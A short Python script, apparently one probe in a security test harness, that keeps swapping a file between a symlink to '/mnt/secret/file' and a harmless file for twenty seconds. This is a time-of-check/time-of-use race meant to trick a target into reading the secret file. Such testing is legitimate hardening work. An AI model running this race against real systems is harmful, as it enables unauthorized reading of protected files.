import os
import time

from attack import daemon, tried

with open("swapped.txt", "w") as file:
    file.write("harmless")
os.link("swapped.txt", "harmless") if hasattr(os, "link") else None


def swap():
    until = time.time() + 20
    while time.time() < until:
        os.symlink("/mnt/secret/file", "next")
        os.rename("next", "swapped.txt")
        time.sleep(0.002)
        with open("other", "w") as file:
            file.write("harmless")
        os.rename("other", "swapped.txt")


daemon(swap)
tried("a file that is a link now and then")
